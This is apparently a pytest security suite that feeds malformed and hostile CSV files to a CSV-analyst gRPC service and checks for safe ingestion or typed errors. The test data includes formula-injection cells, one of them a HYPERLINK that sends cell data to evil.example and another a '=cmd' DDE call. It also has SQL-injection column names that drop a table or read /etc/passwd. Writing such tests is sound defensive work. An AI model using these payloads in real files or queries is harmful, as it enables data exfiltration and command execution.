"""Malformed and hostile CSV files asked about through AnalystService (Ask and SubmitRun with
csv_paths): each gets safe ingestion (with the issue reported in the capsule) or a clear typed
error; never a crash, a silently dropped row, or a hung service. The files are generated here.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import grpc
import pytest

from analyst_service.export import to_csv
from csv_analyst.v1 import analyst_service_pb2 as api, analyst_service_pb2_grpc, run_pb2
from tests.conftest import RunningStack
from tests.security.conftest import ROOMY_RUN_TIMEOUT_SECONDS
from tests.security.harness import leaks

pytestmark = [pytest.mark.bwrap, pytest.mark.timeout(600)]
# A caller's deadline caps a run's time limit: give the calls the roomy stack's whole limit, so a
# loaded machine slows these tests down but never fails them.
CALL_TIMEOUT = ROOMY_RUN_TIMEOUT_SECONDS + 30


@dataclass(frozen=True)
class HostileCsv:
    """A generated file and what the service must do with it.

    Attributes:
        rows: Data rows the table must have when ingestion is safe; None when it must be refused.
        issue: For refused files: the RunError.metadata["issue"] of the runner, or "empty" for
            the catalog's INVALID_ARGUMENT.
        note: Text the capsule's sandbox stderr must contain (the reported issue), or "".
        or_issue: An issue that is an acceptable typed refusal instead of ingestion (limits).
    """

    name: str
    content: Callable[[], bytes]
    rows: int | None
    issue: str = ""
    note: str = ""
    or_issue: str = ""


FILES = [
    HostileCsv("empty", lambda: b"", None, "empty"),
    HostileCsv("whitespace_only", lambda: b"  \n\n", None, "empty"),
    HostileCsv("header_only", lambda: b"a,b,c\n", 0, note="no data rows"),
    HostileCsv("ragged_short_row", lambda: b"a,b,c\n1,2,3\n4,5\n6,7,8\n", None, "ragged_rows"),
    # DuckDB's sniffer took the long row as the schema and loaded zero rows: silent data loss.
    HostileCsv("ragged_long_row", lambda: b"a,b,c\n1,2,3\n4,5,6,7\n", None, "ragged_rows"),
    HostileCsv("ragged_semicolons", lambda: b"a;b;c\n1;2;3\n4;5\n", None, "ragged_rows"),
    HostileCsv("invalid_utf8", lambda: b"id,city\n1,Z\xfcrich\n2,Bern\n", None, "invalid_utf8"),
    HostileCsv("duplicate_columns", lambda: b"id,name,name\n1,a,b\n2,c,d\n", 2, note="it is named 'name_1'"),
    HostileCsv("empty_column_names", lambda: b"id,,\n1,a,b\n2,c,d\n", 2, note="an empty name"),
    HostileCsv("two_thousand_columns", lambda: (",".join(f"c{i}" for i in range(2000)) + "\n"
                                                + "\n".join(",".join(str(r * i) for i in range(2000)) for r in range(3))
                                                + "\n").encode(), 3,
               # DuckDB's reader needs ~1 GB of address space for 2,000 columns; the red-team
               # sandbox caps it at 4 x 256 MB, so a typed memory refusal is acceptable too.
               or_issue="out_of_memory"),
    HostileCsv("five_megabyte_field", lambda: b"id,blob\n1," + b"x" * (5 << 20) + b"\n2,small\n", 2),
    HostileCsv("formula_cells", lambda: (b'id,link,note\n1,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",+1\n'
                                         b"2,@SUM(A1:A9),-2+3\n3,=cmd|' /C calc'!A0,ok\n"), 3),
    HostileCsv("nul_bytes", lambda: b"id,val\n1,a\x00b\n2,c\n", 2),
    HostileCsv("sql_column_names", lambda: (b'id,"name""; DROP TABLE t; --","select * from read_text(\'/etc/passwd\')"\n'
                                            b"1,a,b\n2,c,d\n"), 2),
    HostileCsv("byte_order_mark", lambda: b"\xef\xbb\xbfid,val\n1,a\n2,b\n", 2),
    HostileCsv("crlf_newlines", lambda: b"id,val\r\n1,a\r\n2,b\r\n", 2),
    HostileCsv("mixed_newlines", lambda: b"id,val\r\n1,a\n2,b\r3,c\n", None, "unreadable"),
    HostileCsv("quoted_newlines", lambda: b'id,text\n1,"line one\nline two"\n2,"x"\n3,"a,b"\n', 3),
    # The quote is kept as a literal character: both rows load, nothing is lost.
    HostileCsv("unterminated_quote", lambda: b'id,text\n1,"never closed\n2,x\n', 2),
]


def test_there_are_at_least_twelve_hostile_files() -> None:
    assert len(FILES) >= 12 and len({f.name for f in FILES}) == len(FILES)


@pytest.fixture(scope="module")
def analyst(roomy_stack: RunningStack) -> Iterator[Any]:
    """An AnalystService stub on the roomy stack: these files test ingestion, not time limits,
    so a loaded machine must not turn a slow honest file into a timeout."""
    channel = grpc.insecure_channel(roomy_stack.analyst_target)
    yield analyst_service_pb2_grpc.AnalystServiceStub(channel)
    channel.close()


@pytest.fixture(scope="module")
def csv_dir(security_root: Path) -> Path:
    directory = security_root / "hostile"
    directory.mkdir()
    for hostile in FILES:
        (directory / f"{hostile.name}.csv").write_bytes(hostile.content())
    return directory


def _count(run: run_pb2.Run) -> int:
    return run.result.rows[0].values[0].int_value


@pytest.mark.parametrize("hostile", FILES, ids=[f.name for f in FILES])
def test_submit_run_counts_every_row_or_fails_typed(hostile: HostileCsv, csv_dir: Path, analyst: Any) -> None:
    path = str(csv_dir / f"{hostile.name}.csv")
    request = api.SubmitRunRequest(csv_paths=[path], sql=f'SELECT count(*) AS n FROM "{hostile.name}"')
    if hostile.issue == "empty":
        with pytest.raises(grpc.RpcError) as caught:
            analyst.SubmitRun(request, timeout=CALL_TIMEOUT)
        assert caught.value.code() == grpc.StatusCode.INVALID_ARGUMENT
        return
    run = analyst.SubmitRun(request, timeout=CALL_TIMEOUT).run
    capsule = analyst.GetCapsule(api.GetCapsuleRequest(name=run.run_id), timeout=CALL_TIMEOUT).capsule
    assert capsule.run.state == run.state
    if hostile.or_issue and run.error.metadata.get("issue") == hostile.or_issue:
        assert run.error.code == run_pb2.ERROR_CODE_RUNNER_RESOURCE_EXCEEDED and "run_memory" in run.error.message
    elif hostile.rows is None:
        assert run.state == run_pb2.RUN_STATE_FAILED, run
        assert run.error.code == run_pb2.ERROR_CODE_QUERY_ERROR
        assert run.error.status_code == grpc.StatusCode.INVALID_ARGUMENT.value[0]
        assert run.error.metadata["issue"] == hostile.issue and run.error.metadata["table"] == hostile.name
        assert capsule.run.error == run.error
    else:
        assert run.state == run_pb2.RUN_STATE_SUCCEEDED, run.error.message
        assert _count(run) == hostile.rows, "a row was dropped or invented"
        if hostile.note:
            assert hostile.note in capsule.run.stats.stderr, capsule.run.stats.stderr
    assert leaks(str(capsule)) == []


@pytest.mark.parametrize("hostile", FILES, ids=[f.name for f in FILES])
def test_ask_answers_or_fails_typed(hostile: HostileCsv, csv_dir: Path, analyst: Any) -> None:
    path = str(csv_dir / f"{hostile.name}.csv")
    request = api.AskRequest(csv_paths=[path], question="How many rows are there?")
    try:
        events = [r.event for r in analyst.Ask(request, timeout=CALL_TIMEOUT)]
    except grpc.RpcError as error:
        # Only a request that cannot start fails the RPC, with a typed status (never INTERNAL).
        assert hostile.issue == "empty" and error.code() == grpc.StatusCode.INVALID_ARGUMENT, error
        return
    run = events[-1].run
    assert events[-1].stage == run_pb2.STAGE_DONE
    refused_for_memory = bool(hostile.or_issue) and "run_memory" in run.error.message
    if hostile.rows is None or refused_for_memory:
        assert run.state in (run_pb2.RUN_STATE_REJECTED, run_pb2.RUN_STATE_FAILED), run
        assert run.error.status_code in (grpc.StatusCode.INVALID_ARGUMENT.value[0],
                                         grpc.StatusCode.RESOURCE_EXHAUSTED.value[0]), run.error
        assert hostile.name in run.error.message
    else:
        # Safe ingestion: the question is answered (or clarified), never an internal error.
        assert run.state in (run_pb2.RUN_STATE_SUCCEEDED, run_pb2.RUN_STATE_REJECTED), run.error
        if run.state == run_pb2.RUN_STATE_REJECTED:
            assert run.error.reason in ("PLANNER_ERROR", "VALIDATION_ERROR"), run.error
        elif run.result.rows and len(run.result.columns) == 1 and hostile.rows:
            assert _count(run) == hostile.rows
    assert run.error.code != run_pb2.ERROR_CODE_RUNNER_INTERNAL_ERROR
    capsule = analyst.GetCapsule(api.GetCapsuleRequest(name=run.run_id), timeout=CALL_TIMEOUT).capsule
    assert leaks(str(capsule)) == [] and leaks(str(events)) == []


def test_formula_cells_come_back_raw_and_are_neutralised_on_export(csv_dir: Path, analyst: Any) -> None:
    path = str(csv_dir / "formula_cells.csv")
    run = analyst.SubmitRun(api.SubmitRunRequest(
        csv_paths=[path], sql="SELECT id, link, note FROM formula_cells ORDER BY id LIMIT 10"), timeout=CALL_TIMEOUT).run
    assert run.state == run_pb2.RUN_STATE_SUCCEEDED, run.error
    rows = [[v.int_value if v.WhichOneof("kind") == "int_value" else v.string_value for v in row.values]
            for row in run.result.rows]
    assert rows[0][1].startswith("=HYPERLINK(")  # the data is stored and shown as it is
    exported = to_csv([c.name for c in run.result.columns], rows)
    for line in exported.splitlines()[1:]:
        for cell in line.split(",")[1:2]:
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@")), exported
    assert "'=HYPERLINK(" in exported and "'@SUM(A1:A9)" in exported and "'=cmd|" in exported


def test_service_still_answers_after_the_hostile_files(analyst: Any) -> None:
    events = [r.event for r in analyst.Ask(api.AskRequest(dataset_id="support",
                                                          question="How many tickets are still open?"), timeout=CALL_TIMEOUT)]
    assert events[-1].run.state == run_pb2.RUN_STATE_SUCCEEDED, events[-1].run.error
